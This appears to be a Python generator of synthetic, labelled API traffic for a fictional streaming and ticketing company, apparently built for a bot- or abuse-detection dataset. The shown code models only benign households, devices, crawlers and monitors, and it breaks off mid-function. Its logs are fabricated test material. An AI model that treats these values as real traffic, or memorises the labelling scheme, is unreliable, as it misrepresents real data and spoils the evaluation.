#!/usr/bin/env python3
"""Labelled API traffic of a streaming and ticketing company.  media.py SEED OUTDIR"""
import sys, os, json, math, random, datetime as dt, collections

SEED = int(sys.argv[1]); OUT = sys.argv[2]; os.makedirs(OUT, exist_ok=True)
R = random.Random(SEED * 7919 + 41)
H, M, D = 3600.0, 60.0, 86400.0
hexs = lambda n: '%0*x' % (n, R.getrandbits(4 * n))
U = R.uniform; logn = lambda med, s: med * math.exp(R.gauss(0, s))
def chance(p): return R.random() < p
def wpick(d): return R.choices(list(d), list(d.values()))[0]

# ---------------------------------------------------------------- world parameters
DAYS = R.choice([2, 3, 3, 4])
T0 = dt.datetime(2026, 6, R.choice([13, 14, 15, 16]), tzinfo=dt.timezone.utc).timestamp()
END = T0 + DAYS * D
COUNTRY = R.choice(['DE', 'GB', 'US']); TZ = {'DE': 2, 'GB': 1, 'US': -5}[COUNTRY]
HB = R.choice([120, 180, 240])                    # playback heartbeat, s
ATTEST = U(.30, .80)                              # share of phones whose app version attests
P_IOS = U(.3, .65)
DORMANT = chance(.6)                              # versions that carry the SDK with its flag still off: 'missing'; older ones: 'none'
DROP = chance(.6)
TDROP = T0 + R.choice(range(1, DAYS)) * D + (R.choice([10, 12, 18]) - TZ) * H
BENIGN_BUDGET = R.randint(63000, 84000)
HAS_JA4, HAS_GEO, HAS_ASN = chance(.6), chance(.85), chance(.6)
LOGIN_SETS_USER = chance(.4)                      # user.id logged on a successful sign-in
NUM_IDS = chance(.5)
OUTAGE = (lambda t: (t, t + U(12, 35) * M))(T0 + U(.5, DAYS - .2) * D) if chance(.6) else None   # attestation provider
INCIDENT = (lambda t: (t, t + U(5, 14) * M))(T0 + (R.randrange(DAYS) * 24 + 20 - TZ + U(-1, 2)) * H)
RELEASE = T0 + U(.8, DAYS - .5) * D
NEWV, CURV, OLDV = '8.15.0', '8.14.2', ['8.9.1', '8.6.3', '7.22.0', '8.11.0']
HOST = 'api.kinolux.example'; WWW = 'www.kinolux.example'; PUB = 'open.kinolux.example'

# ---------------------------------------------------------------- networks
PROV = {  # asn, country, first octets
 'DE': [(3320, 'DE', [79, 84, 87, 91, 93, 217]), (3209, 'DE', [88, 92, 178, 188]), (8881, 'DE', [89, 94])],
 'GB': [(2856, 'GB', [81, 86, 109]), (5607, 'GB', [90, 94, 176]), (5089, 'GB', [80, 82])],
 'US': [(7922, 'US', [24, 67, 68, 73, 98]), (7018, 'US', [99, 104, 107]), (20115, 'US', [47, 71, 75])]}
MOB = {'DE': (6805, 'DE', [77, 176]), 'GB': (12576, 'GB', [31, 92]), 'US': (21928, 'US', [172, 208])}
ABROAD = [(3215, 'FR', [90, 92]), (3352, 'ES', [83, 88]), (5617, 'PL', [83, 178]), (9121, 'TR', [78, 88]), (3269, 'IT', [79, 87]),
          (1136, 'NL', [77, 145]), (55836, 'IN', [49, 157]), (28573, 'BR', [177, 189]), (7713, 'ID', [36, 125]), (45899, 'VN', [14, 113]),
          (12389, 'RU', [95, 188]), (8151, 'MX', [187, 201]), (4788, 'MY', [60, 175]), (3320, 'DE', [80, 91]), (7922, 'US', [69, 76]), (2856, 'GB', [86, 217])]
DC = [(24940, 'DE', [5, 65, 95]), (16276, 'FR', [51, 54, 145]), (14061, 'US', [134, 159, 165]), (16509, 'US', [3, 18, 52]), (9009, 'RO', [185, 193]), (212238, 'NL', [37, 138]), (20473, 'US', [45, 66])]
_pref = {}
def v4(p):
    ks = _pref.setdefault((p[0], p[1], tuple(p[2])), [])
    if len(ks) < 8: ks.append('%d.%d' % (R.choice(p[2]), (R.randint(32, 250))))
    return '%s.%d.%d' % (R.choice(ks), R.randint(0, 255), R.randint(2, 253))
class Net:                       # an internet connection: one address, or an IPv6 /64, sometimes renewed daily
    def __init__(s, p, v6=False, daily=False):
        s.p, s.daily, s.cache = p, daily, {}
        s.pre6 = ('2a02:%x:%x:%x' % (p[0] & 0xffff, R.randint(1, 0xfffe), R.randint(1, 0xfffe))) if v6 else None
        s.base, s.cut = v4(p), U(1, 5) * H
    def get(s, t, who=''):
        if s.pre6 and who and who[0] != 't':                      # tvs stay on v4
            k = (who, int(t // D))
            if k not in s.cache: s.cache[k] = s.pre6 + ':%x:%x:%x:%x' % tuple(R.randint(1, 0xfffe) for _ in range(4))
            return s.cache[k], s.p
        if s.daily:
            k = int((t - s.cut) // D)
            if k not in s.cache: s.cache[k] = v4(s.p)
            return s.cache[k], s.p
        return s.base, s.p
def home(country=None):
    c = country or COUNTRY
    return Net(R.choice(PROV[c]), chance(.35), c == 'DE' and chance(.5))
CGN = [(v4(MOB[COUNTRY]), MOB[COUNTRY]) for _ in range(R.randint(10, 40))]
OFFICES = [Net(R.choice(PROV[COUNTRY])) for _ in range(14)]
HQ = Net(R.choice(PROV[COUNTRY]))
DORMS = [Net(R.choice(PROV[COUNTRY])) for _ in range(1)]
HOTELS = [Net(R.choice(PROV[COUNTRY] + ABROAD[:6])) for _ in range(R.randint(1, 3))]
HOMES = []                       # filled; residential proxies also sit in customers' homes
def resi():                      # an exit of a residential proxy network
    if HOMES and chance(.04): return R.choice(HOMES).get(T0, 't')
    p = R.choice(PROV[COUNTRY] + PROV['US'][:1] + PROV['GB'][:1]) if chance(.5) else R.choice(ABROAD)
    return v4(p), p
def dc():
    p = R.choice(DC); return v4(p), p
class Fixed:
    def __init__(s, ip, p): s.ip, s.p = ip, p
    def get(s, t, who=''): return s.ip, s.p
fixed = lambda pair: Fixed(*pair)

# ---------------------------------------------------------------- client software
PH_A = ['SM-S911B', 'SM-A546B', 'SM-G991B', 'Pixel 8', 'Pixel 7a', 'Redmi Note 12', 'moto g84', 'CPH2451', 'SM-A155F', '2201117TY']
TVS = ['KinoluxTV/5.3.1 (Tizen 7.0; QE55Q80C)', 'KinoluxTV/5.3.1 (webOS 23; OLED55C3)', 'KinoluxTV/5.2.0 (Tizen 5.5; UE43TU7)', 'KinoluxTV/6.0.4 (AndroidTV 12; Chromecast)',
       'KinoluxTV/6.0.4 (FireTV 7.6; AFTKA)', 'KinoluxTV/6.0.2 (FireTV 7.2; AFTMM)', 'KinoluxTV/4.9.7 (Roku 12.5)', 'KinoluxSTB/3.1 (Linux; stb-hd4)']
def ua_app(pl, ver):
    return 'Kinolux/%s (iPhone%d,%d; iOS %s) CFNetwork/1568 Darwin/24.0.0' % (ver, R.randint(12, 17), R.randint(1, 5), R.choice(['17.6.1', '18.1', '18.5', '26.0'])) if pl == 'ios' else \
           'Kinolux/%s (Android %d; %s) okhttp/4.12.0' % (ver, R.choice([11, 12, 13, 14, 14, 15]), R.choice(PH_A))
def ua_web():
    v = R.choice([136, 137, 137, 137, 138])
    return R.choice(['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36' % v] * 4 + [
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36 Edg/%d.0.0.0' % (v, v),
      'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1',
      'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Mobile Safari/537.36' % v,
      'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'])
JA4 = {'web': 't13d1516h2_8daaf6152771_02713d6af862', 'ff': 't13d1715h2_5b57614c22b0_5c2c66f702b0', 'saf': 't13d2014h2_a09f3c656075_14788d8d241b', 'ios': 't13d2014h2_a09f3c656075_e42f34c56612',
       'android': 't13d1613h2_46e7e9700bed_0b56a5a8e3b7', 'tv': 't12d120700_d34a8e72043a_eb7c9aabf852', 'py': 't13d1812h1_85036bcba153_d41ae481755e', 'go': 't13d1310h2_f57a46bbacb6_e7c285222651', 'curl': 't13d3112h2_e8f1e7e78f70_b26ce05bbdd6', 'node': 't13d5911h1_a33745022dd6_1f22a2ca17c4'}
def ja_of(pl, ua):
    if pl == 'web': return JA4['ff' if 'Firefox' in ua else 'saf' if 'Version/' in ua else 'web']
    if pl in ('ios', 'android', 'tv'): return JA4[pl]
    for k, w in (('python', 'py'), ('Go-http', 'go'), ('curl', 'curl'), ('axios', 'node'), ('node', 'node')):
        if k in ua: return JA4[w]
    return JA4['go']

EV = []; VICT = {}
class C:                         # one client: software + connection + identity + truth
    def __init__(s, pl, net, kind, caller, ua=None, user=None, dev=None, att='none', label='benign', inst='', ver=None, email=None, key=None, ja=None, who=None):
        s.pl, s.net, s.kind, s.caller, s.user, s.att, s.label, s.inst, s.email, s.key = pl, net, kind, caller, user, att, label, inst, email, key
        s.ver = ver or (CURV if pl in ('ios', 'android') else None)
        s.ua = ua or (ua_app(pl, s.ver) if pl in ('ios', 'android') else R.choice(TVS) if pl == 'tv' else ua_web())
        s.dev = dev if dev is not None else (hexs(16) if pl in ('ios', 'android', 'tv') else None)
        s.sess = 's' + hexs(20) if pl in ('ios', 'android', 'tv', 'web') else None
        s.ja = JA4[ja] if ja else ja_of(pl, s.ua); s.tok = s.tokt = None; s.acc = 0; s.who = who or (('t' if pl == 'tv' else 'd') + hexs(6)); s.upd = U(0, 30) * H
        s.skew = chance(.006); s.issuer = None; s.life = 300
    def addr(s, t):
        return s.net.get(t, s.who)
def emit(c, t, m, path, st=200, q=None, subj=None, user='', host=HOST, size=None, att='', net=None, tok=None):
    if t >= END or t < T0: return t
    ip, p = net or c.addr(t)
    e = {'time': int(t * 1000), 'http.request.method': m, 'url.path': path, 'http.response.status_code': st, 'client.address': ip, 'server.address': host}
    if q: e['url.query'] = q
    if c.ua: e['user_agent.original'] = c.ua
    u = c.user if user == '' else user
    if u: e['user.id'] = u
    if c.sess: e['session.id'] = c.sess
    if c.dev: e['device.id'] = c.dev
    if c.key: e['api.client'] = c.key
    if subj: e['login.subject'] = subj
    if c.ver:
        ver = NEWV if (c.label == 'benign' or c.kind == 'device-farm') and c.ver == CURV and t > RELEASE + c.upd else c.ver
        e['app.version'] = ver; e['user_agent.original'] = c.ua.replace(c.ver, ver)
    if HAS_GEO: e['geo.country'] = p[1]
    if HAS_ASN: e['network.asn'] = p[0]
    if HAS_JA4 and c.ja: e['tls.client.ja4'] = c.ja
    a = c.att if att == '' else att
    if host != HOST: a = None if a in ('none', None) else a
    if a in ('genuine', 'failed'):
        if tok is None and (c.tok is None or not 0 <= t - c.tokt < c.life - 10): c.tok, c.tokt = hexs(32), t
        stt, code = a, ('bad_signature' if a == 'failed' else None)
        if a == 'genuine':
            if OUTAGE and OUTAGE[0] < t < OUTAGE[1] and tok is None and t - c.tokt < 2: stt, code, c.tok = 'missing', None, None
            elif c.label == 'benign' and chance(.25 if c.skew else .0025): stt, code = 'expired', 'expired'
            elif c.label == 'benign' and chance(.002): stt, code, = 'missing', None
        if tok: stt, code = tok[1], ('expired' if tok[1] == 'expired' else None)
        e['attestation.status'] = stt
        if code: e['attestation.code'] = code
        if stt != 'missing': e['attestation.issuer'] = 'app'; e['attestation.token'] = tok[0] if tok else c.tok
    elif a: e['attestation.status'] = a
    if m == 'POST' or m == 'PUT': e['http.request.size'] = int(logn(420, .5))
    e['http.response.size'] = size or int({'GET': logn(6500, 1), 'POST': logn(700, .5)}.get(m, logn(300, .4)) if st < 400 and st != 304 and st != 204 else logn(180, .2))
    e['http.server.request.duration'] = round(min(30, logn(.06 if m == 'GET' else .11, .6)), 4)
    l = {'label': c.label, 'kind': c.kind, 'instance': c.inst, 'caller': c.caller}
    if c.pl in ('ios', 'android', 'web', 'tv', 'api'): l['platform'] = c.pl
    EV.append((e['time'], len(EV), e, l, (u, subj)))
    return t
def api(c, t, m, path, st=200, **k):                # a call by an app: token refresh, incident, retries
    if c.user and 'user' not in k and c.pl != 'api' and t > c.acc:
        if c.acc and chance(.5): emit(c, t, m, path, 401, user=None, **k); t += U(.05, .3)
        if c.acc: emit(c, t, 'POST', '/v1/auth/refresh', 200, user=None); t += U(.08, .4)
        c.acc = t + H
    if INCIDENT[0] < t < INCIDENT[1] and c.label == 'benign' and chance(.35):
        for i in range(R.randint(1, 3)): emit(c, t, m, path, R.choice([503, 503, 502, 504]), **k); t += (2 ** i) * U(.5, 1.5)
    elif chance(.0012): emit(c, t, m, path, R.choice([500, 502, 503]), **k); t += U(.5, 2)
    if st == 200 and m == 'GET' and c.pl == 'web' and chance(.12): st = 304
    emit(c, t, m, path, st, **k)
    return t + U(.02, .35)

# ---------------------------------------------------------------- catalogue
TIT = [str(x) for x in R.sample(range(100000, 999999), 2600)]
ZIPF = [1 / (i + 3) ** .9 for i in range(len(TIT))]
def title(): return R.choices(TIT, ZIPF)[0]
_tc = [R.choices(TIT, ZIPF, k=4000)]
def title(): return _tc[0][R.randrange(4000)]
SHOWS = [str(R.randint(40000, 49999)) for _ in range(90)]; HOT = SHOWS[0]
WORDS = 'dark river crown night storm love lost house summer planet cop doctor wedding murder island queen last game fire blue train dragon north kitchen live tour rock comedy'.split()
ORDER0, INV0 = R.randint(3_100_000, 8_000_000), R.randint(20_000_000, 60_000_000)
UIDS = set()
def new_uid():
    while True:
        u = str(R.randint(1_000_000, 9_999_999)) if NUM_IDS else 'u_' + hexs(10)
        if u not in UIDS: UIDS.add(u); return u
FN = 'anna ben carla david emma felix greta hugo ida jan karl lena max nina otto paula quinn rosa sam tina uwe vera will xenia yan zoe mike sarah tom lisa'.split()
def mail(): return '%s.%s%d@%s' % (R.choice(FN), hexs(4), R.randint(1, 99), R.choice(['gmail.com', 'gmx.net', 'outlook.com', 'icloud.com', 'yahoo.com', 'web.de']))

# ---------------------------------------------------------------- visits
def think(a=6, s=.8): return min(400, logn(a, s))
def sign_in(c, t, path='/v1/auth/login', typo=None):
    em = c.email
    if chance(.07): t = emit(c, t, 'POST', path, 401, subj=em.replace('.', '', 1), user=None) + U(5, 25)
    while chance(.13 if typo is None else typo): t = emit(c, t, 'POST', path, 401, subj=em, user=None) + U(4, 30)
    emit(c, t, 'POST', path, 200, subj=em, user='' if LOGIN_SETS_USER else None)
    c.acc = t + H
    return t + U(.1, .6)
def launch(c, t):
    t = api(c, t, 'GET', '/v1/config', user=None)
    if c.user:
        for p in ['/v1/me', '/v1/profiles', '/v1/home', '/v1/continue'] + (['/v1/notifications'] if c.pl != 'tv' else []): t = api(c, t, 'GET', p)
    for r in range(R.randint(0, 2)): t = api(c, t + U(.2, 4), 'GET', '/v1/rows/%s' % R.choice(['trending', 'new', 'because-you-watched', 'kids', 'live', 'tickets']))
    return t
def search(c, t):
    w = R.choice(WORDS) + (' ' + R.choice(WORDS) if chance(.4) else '')
    for i in range(2, len(w), R.randint(2, 4)): t = api(c, t + U(.25, .9), 'GET', '/v1/suggest', q='q=' + w[:i].replace(' ', '+'))
    return api(c, t + U(.3, 2), 'GET', '/v1/search', q='q=' + w.replace(' ', '+'))
def browse(c, t, n):
    for _ in range(n):
        t += think(7)
        if chance(.12): t = search(c, t) + think(4)
        i = title(); t = api(c, t, 'GET', '/v1/titles/' + i, 200 if chance(.995) else 404)
        if chance(.3): t = api(c, t, 'GET', '/v1/titles/%s/episodes' % i)
        if chance(.06): t = api(c, t + think(4), 'PUT', '/v1/watchlist/' + i, 204)
        if c.pl != 'tv' and chance(.12): t = comments(c, t, i)
    return t
def comments(c, t, i):
    t = api(c, t + think(5), 'GET', '/v1/titles/%s/comments' % i, q='page=1')
    for _ in range(R.choice([0, 0, 0, 1, 2])): t = api(c, t + think(8), 'POST', '/v1/comments/%d/like' % R.randint(10**6, 2 * 10**6), 204)
    if chance(.1): t = api(c, t + think(25), 'POST', '/v1/titles/%s/comments' % i, 201)
    if chance(.1): t = api(c, t + think(6), 'GET', '/v1/users/%s/public' % R.choice(ACCS).uid) if ACCS else t
    return t
def play(c, t, minutes):
    end = t + minutes * M; i = title()
    while t < end:
        if chance(.015): return api(c, t, 'POST', '/v1/playback/start', 409)       # too many streams
        pid = hexs(12); t = api(c, t, 'POST', '/v1/playback/start', 201, q=None); t = api(c, t, 'POST', '/v1/drm/license')
        ep = min(end, t + R.choice([22, 42, 48, 95]) * M * U(.9, 1.05)); t0 = t
        while t + HB < ep:
            t += HB + U(-1.2, 1.2)
            api(c, t, 'POST', '/v1/playback/%s/heartbeat' % pid, 204)
            if chance(.02): t += U(60, 900)                                        # pause
        t = max(t + 1, min(ep, t + HB)); t = api(c, t, 'POST', '/v1/playback/%s/stop' % pid, 204)
        t += U(3, 9)
    return t
def gift(c, t):
    t = api(c, t + think(15), 'GET', '/v1/gifts/redeem-info')
    for _ in range(R.choice([0, 0, 0, 1, 1, 2, 4])): t = api(c, t + U(6, 40), 'POST', '/v1/gifts/redeem', R.choice([404, 404, 422]))
    return api(c, t + U(8, 30), 'POST', '/v1/gifts/redeem', 200 if chance(.85) else 410)
def tickets(c, t, buy=.12):
    t = api(c, t + think(5), 'GET', '/v1/events', q='city=' + R.choice(['berlin', 'london', 'austin', 'all']))
    for _ in range(R.choice([1, 1, 2, 3, 5])):
        s = R.choice(SHOWS); t = api(c, t + think(9), 'GET', '/v1/events/' + s); t = api(c, t + .1, 'GET', '/v1/events/%s/availability' % s)
    if c.user and chance(buy):
        t = api(c, t + think(20), 'POST', '/v1/holds', 201); o = ORDER0 + int((t - T0) / 9); t = api(c, t + U(40, 150), 'POST', '/v1/orders', 201 if chance(.93) else 402)
        t = api(c, t + 1, 'GET', '/v1/orders/%d' % o); t = api(c, t + think(30), 'GET', '/v1/orders/%d/tickets' % o)
    return t
def account(c, t):
    for p in R.sample(['/v1/subscription', '/v1/billing/invoices', '/v1/account/devices', '/v1/me/settings', '/v1/me/orders'], R.randint(1, 4)): t = api(c, t + think(6), 'GET', p)
    if chance(.4): 
        for k in range(R.choice([1, 1, 2, 3, 12]) ): t = api(c, t + think(5), 'GET', '/v1/billing/invoices/%d' % (INV0 + (hash_int(c.user) * 7 + k * 40961) % 900000))
    if chance(.1): t = api(c, t + think(20), 'PUT', '/v1/billing/method', 200 if chance(.8) else 402)
    return t
def hash_int(s): return sum(ord(x) * 131 ** i for i, x in enumerate(s or '')) % 899981
def pg(c, t, p, st=200):                              # html page
    return emit(c, t, 'GET', p, st, host=WWW) + U(.1, .5)
def tv_visit(c, t):
    t = launch(c, t); t = browse(c, t, R.choice([0, 1, 1, 2, 4]))
    return play(c, t + think(5), min(240, logn(48, .7)))
def phone_visit(c, t):
    t = launch(c, t)
    k = wpick({'browse': 45, 'play': 22, 'tickets': 8, 'acct': 6, 'comments': 10, 'gift': .8, 'dl': 6})
    if k == 'browse': t = browse(c, t, R.randint(1, 6))
    elif k == 'play': t = play(c, browse(c, t, R.choice([0, 1, 2])), logn(22, .7))
    elif k == 'tickets': t = tickets(c, t)
    elif k == 'acct': t = account(c, t)
    elif k == 'comments':
        for _ in range(R.randint(1, 3)): t = comments(c, api(c, t + think(5), 'GET', '/v1/titles/' + title()), title())
    elif k == 'gift': t = gift(c, t)
    else:
        for _ in range(R.randint(1, 8)): t = api(c, t + U(1, 60), 'POST', '/v1/downloads', 201); t = api(c, t, 'POST', '/v1/drm/license', q='offline=1')
    if chance(.03): c.net = fixed(R.choice(CGN)); t = browse(c, t, 2)               # leaves the wifi
    return t
def web_visit(c, t):
    t = pg(c, t, '/')
    if c.acc < t - 8 * H and chance(.35): c.sess = 's' + hexs(20); t = sign_in(c, t + U(6, 25))
    t = launch(c, t)
    k = wpick({'browse': 35, 'play': 22, 'tickets': 18, 'acct': 14, 'gift': 1.5})
    if k == 'tickets': t = pg(c, t, '/events'); return tickets(c, t, .2)
    if k == 'acct': t = pg(c, t, '/account'); return account(c, t)
    if k == 'gift': t = pg(c, t, '/redeem'); return gift(c, t)
    for _ in range(R.randint(1, 4)): i = title(); t = pg(c, t + think(6), '/title/' + i); t = api(c, t, 'GET', '/v1/titles/' + i); t = comments(c, t, i) if chance(.2) else t
    return play(c, t, logn(28, .7)) if k == 'play' else t
def anon_visit(c, t):
    if chance(.3):
        s = R.choice(SHOWS[:30]); t = pg(c, t, '/events/' + s); t = api(c, t, 'GET', '/v1/events/' + s); t = api(c, t, 'GET', '/v1/events/%s/availability' % s); return t
    for _ in range(R.choice([1, 1, 1, 2, 3, 5])):
        i = title(); st = 200 if chance(.96) else 404; t = pg(c, t, '/title/' + i, st); t = api(c, t, 'GET', '/v1/titles/' + i, st) if chance(.8) else t; t = api(c, t, 'GET', '/v1/titles/%s/comments' % i) if chance(.4) else t
        t += think(20)
    return t
HOURS = {'tv': [3, 2, 1, 1, 1, 1, 3, 4, 4, 4, 4, 5, 6, 6, 6, 7, 9, 12, 17, 24, 28, 24, 15, 7],
         'phone': [4, 2, 1, 1, 1, 2, 6, 10, 10, 9, 9, 10, 13, 11, 10, 10, 12, 14, 15, 16, 17, 17, 14, 8],
         'web': [3, 2, 1, 1, 1, 1, 2, 5, 9, 11, 11, 11, 14, 11, 11, 11, 11, 11, 12, 15, 16, 14, 10, 6]}
def when(day, prof):
    h = R.choices(range(24), HOURS[prof])[0]
    return T0 + day * D + ((h - TZ) % 24) * H + U(0, H)

# ---------------------------------------------------------------- households
class Acc: pass
ACCS = []
def att_of():
    if chance(ATTEST): return ('failed', CURV) if chance(.008) else ('genuine', CURV if chance(.8) else '8.14.0')
    v = R.choice(OLDV); return 'missing' if DORMANT and v in ('8.9.1', '8.11.0') else 'none', v
def make_phone(a, who, kind, net):
    pl = 'ios' if chance(P_IOS) else 'android'; st, ver = att_of()
    if st == 'failed': kind, pl = 'rooted-phone', 'android'
    return C(pl, net, kind, who, user=a.uid, email=a.email, att=st, ver=ver)
def household():
    a = Acc(); a.uid, a.email, a.t = new_uid(), mail(), 0
    r = R.random(); a.type = 'dorm' if r < .25 else 'hotel' if r < .36 else 'home'
    a.net = R.choice(DORMS) if a.type == 'dorm' else R.choice(HOTELS) if a.type == 'hotel' else home()
    if a.type == 'home': HOMES.append(a.net)
    act = min(4, logn(.26, 1.0)); a.devs = []
    pre = {'dorm': 'dorm-resident', 'hotel': 'hotel-guest', 'home': 'app-user'}[a.type]
    persons = 1 if a.type != 'home' else R.choice([1, 1, 2, 2, 3, 4])
    P = ['%s/p%d' % (a.uid, i) for i in range(persons)]
    if chance(.72 if a.type == 'home' else .2):
        for i in range(1 if chance(.8) else 2): a.devs.append((C('tv', a.net, 'tv-viewer' if a.type == 'home' else pre, P[0], user=a.uid, email=a.email), 'tv', .75))
    for p in P:
        if chance(.75): a.devs.append((make_phone(a, p, pre, a.net), 'phone', 1.1))
        if chance(.3): a.devs.append((C('web', a.net, 'web-user' if a.type == 'home' else pre, p, user=a.uid, email=a.email), 'web', .45))
    if chance(.13):                                                     # shared password: a friend elsewhere
        n2 = R.choice(DORMS) if chance(.3) else home(R.choice(['DE', 'GB', 'US']) if chance(.15) else None); f = a.uid + '/friend'
        a.devs.append((C('tv', n2, 'shared-password', f, user=a.uid, email=a.email), 'tv', .7) if chance(.6) else (make_phone(a, f, 'shared-password', n2), 'phone', 1.0))
    ACCS.append(a)
    a.office = R.choice(OFFICES)
    new_phone = chance(.02); travel = chance(.025) and a.type == 'home'; tday = R.randrange(DAYS)
    stay = R.randrange(-1, DAYS) if a.type == 'hotel' else None; visits = []
    if a.type == 'hotel': act = max(act, .8)
    for c, prof, rate in a.devs:
        c.home = c.net; c.acc = 1
        for day in range(-1, DAYS):
            if stay is not None and day not in (stay, stay + 1): continue
            lam = rate * act; n = 0
            while lam > 0 and R.expovariate(1) < lam: n += 1; lam -= .8
            if R.random() < lam * .2: n += 1
            for _ in range(n): visits.append((when(day, prof), c, prof))
    nxt = {}
    for t, c, prof in sorted(visits, key=lambda x: x[0]):
        if t < nxt.get(c, 0) + 300 or t < T0 - 3 * H: continue
        lh = ((t - T0) / H + TZ) % 24; day = int((t - T0) // D)
        if prof == 'phone' and c.home is a.net:
            c.net = a.net if chance(.3 if 8 <= lh < 18 else .8) else fixed(R.choice(CGN)) if chance(.8) else a.office
        if prof == 'web' and a.type == 'home' and c.home is a.net: c.net = a.office if 9 <= lh < 17 and chance(.5) else a.net
        if travel and day >= tday and prof == 'phone':
            if not hasattr(a, 'tn'): a.tn = R.choice(HOTELS) if chance(.4) else Net(R.choice(ABROAD))
            c.net, c.kind = a.tn, 'traveller'
            if not hasattr(c, 'tr'): c.tr = 1; t = sign_in(c, t)
        if new_phone and prof == 'phone' and day == 1 and not hasattr(a, 'np'):
            a.np = 1; st, v = att_of(); c.dev, c.att, c.ver, c.tok, c.sess = hexs(16), 'genuine', CURV, None, 's' + hexs(20); c.kind = 'new-phone'; c.ua = ua_app(c.pl, c.ver); t = sign_in(c, t, typo=.4)
        elif stay is not None and prof == 'tv' and not hasattr(a, 'htv'): a.htv = 1; c.sess = 's' + hexs(20); t = pair_tv(c, t, a)
        elif prof != 'web' and chance(.006): c.sess = 's' + hexs(20); t = (pair_tv(c, t, a) if prof == 'tv' and chance(.6) else sign_in(c, t))
        if chance(.004): t = forgot(c, t)
        nxt[c] = {'tv': tv_visit, 'phone': phone_visit, 'web': web_visit}[prof](c, t)
    for c, prof, _ in a.devs:                                           # background work
        if travel or new_phone or stay is not None: continue
        if prof == 'phone' and chance(.5 * min(1, act + .2)):
            for day in range(DAYS):
                for _ in range(R.choice([0, 1, 1, 2])):
                    t = T0 + day * D + U(0, D); c.net = a.net if chance(.6) or c.home is not a.net else fixed(R.choice(CGN)); c.net = c.home if c.home is not a.net else c.net
                    t = api(c, t, 'GET', '/v1/notifications'); api(c, t, 'GET', '/v1/continue')
        if prof == 'tv' and chance(.04):
            t = T0 + U(0, 2 * H)
            while t < END: api(c, t, 'GET', '/v1/home', q='ambient=1'); t += H + U(-5, 5)
    return a
def forgot(c, t):
    t = emit(c, t, 'POST', '/v1/auth/login', 401, subj=c.email, user=None) + U(8, 20); t = emit(c, t, 'POST', '/v1/auth/password/forgot', 202, subj=c.email, user=None) + U(30, 200)
    if chance(.3): t = emit(c, t, 'POST', '/v1/auth/otp/verify', 400, subj=c.email, user=None) + U(8, 30)
    t = emit(c, t, 'POST', '/v1/auth/otp/verify', 200, subj=c.email, user=None) + U(10, 30); t = emit(c, t, 'POST', '/v1/auth/password/reset', 204, user=None) + 2
    return sign_in(c, t, typo=.1)
def pair_tv(c, t, a):
    t = emit(c, t, 'POST', '/v1/device/code', 200, user=None); ph = [x for x, p, _ in a.devs if p == 'phone']
    n = R.randint(4, 20); act = ph[0] if ph else None
    for i in range(n): t = emit(c, t + 5 + U(0, .2), 'POST', '/v1/device/token', 400 if i < n - 1 else 200, user=None)
    if act:
        if chance(.25): api(act, t - 14, 'POST', '/v1/device/activate', 404)
        api(act, t - 3, 'POST', '/v1/device/activate', 200)
    c.acc = t + H; return t + 1
def signup(c, t, fresh=None):
    c.email, uid, c.user = mail(), new_uid(), None
    t = api(c, t, 'GET', '/v1/config'); t = api(c, t + think(8), 'GET', '/v1/plans'); t += U(25, 120)
    if chance(.15): t = emit(c, t, 'POST', '/v1/auth/signup', R.choice([409, 422])) + U(8, 40)
    t = emit(c, t, 'POST', '/v1/auth/signup', 201) + U(20, 90); t = emit(c, t, 'POST', '/v1/auth/otp/verify', 200 if chance(.9) else 400)
    c.user, c.acc = uid, t + H
    t = api(c, t + U(1, 5), 'GET', '/v1/me'); return t

# ---------------------------------------------------------------- other benign traffic
def bots():
    for nm, ua, p, pre, n in [('googlebot', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', (15169, 'US', []), '66.249.66.', 330), ('bingbot', 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', (8075, 'US', []), '157.55.39.', 190),
                              ('applebot', 'Mozilla/5.0 (compatible; Applebot/0.1; +http://www.apple.com/go/applebot)', (714, 'US', []), '17.241.75.', 70), ('gptbot', 'Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)', (8075, 'US', []), '20.171.207.', 150)]:
        c = C('bot', None, 'search-crawler', nm, ua=ua, ja='go'); ips = [pre + str(R.randint(1, 250)) for _ in range(R.randint(3, 12))]
        for day in range(DAYS):
            t = T0 + day * D
            emit(c, t + U(0, H), 'GET', '/robots.txt', host=WWW, net=(ips[0], p))
            for _ in range(int(n * U(.6, 1.4))):
                t2 = t + U(0, D) if nm != 'gptbot' else t + 5 * H + U(0, 40 * M)
                if chance(.2): emit(c, t2, 'GET', '/public/v2/titles/' + R.choice(TIT), R.choice([200, 200, 304]), host=PUB, net=(R.choice(ips), p))
                else: emit(c, t2, 'GET', R.choice(['/title/', '/title/', '/events/']) + R.choice(TIT), R.choice([200] * 14 + [304] * 4 + [404] * 2 + [301]), host=WWW, net=(R.choice(ips), p))
    for nm, ua, step, paths in [('uptime', 'UptimeRobot/2.0; http://www.uptimerobot.com/', 600, ['/healthz']), ('pingdom', 'Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)', 900, ['/healthz', '/v1/config'])]:
        for loc in range(2):
            c = C('bot', fixed(dc()), 'monitor', nm + str(loc), ua=ua, ja='go'); t = T0 + U(0, step)
            while t < END: [emit(c, t + i, 'GET', p, 200 if not INCIDENT[0] < t < INCIDENT[1] or chance(.6) else 503) for i, p in enumerate(paths)]; t += step + U(-.5, .5)
    c = C('bot', fixed(dc()), 'synthetic-monitor', 'synthetic', ua='Datadog/Synthetics', ja='node', user=new_uid(), email='synthetic@kinolux.example'); t = T0 + U(0, 900)
    while t < END:
        x = emit(c, t, 'POST', '/v1/auth/login', 200, subj=c.email, user=None) + .4
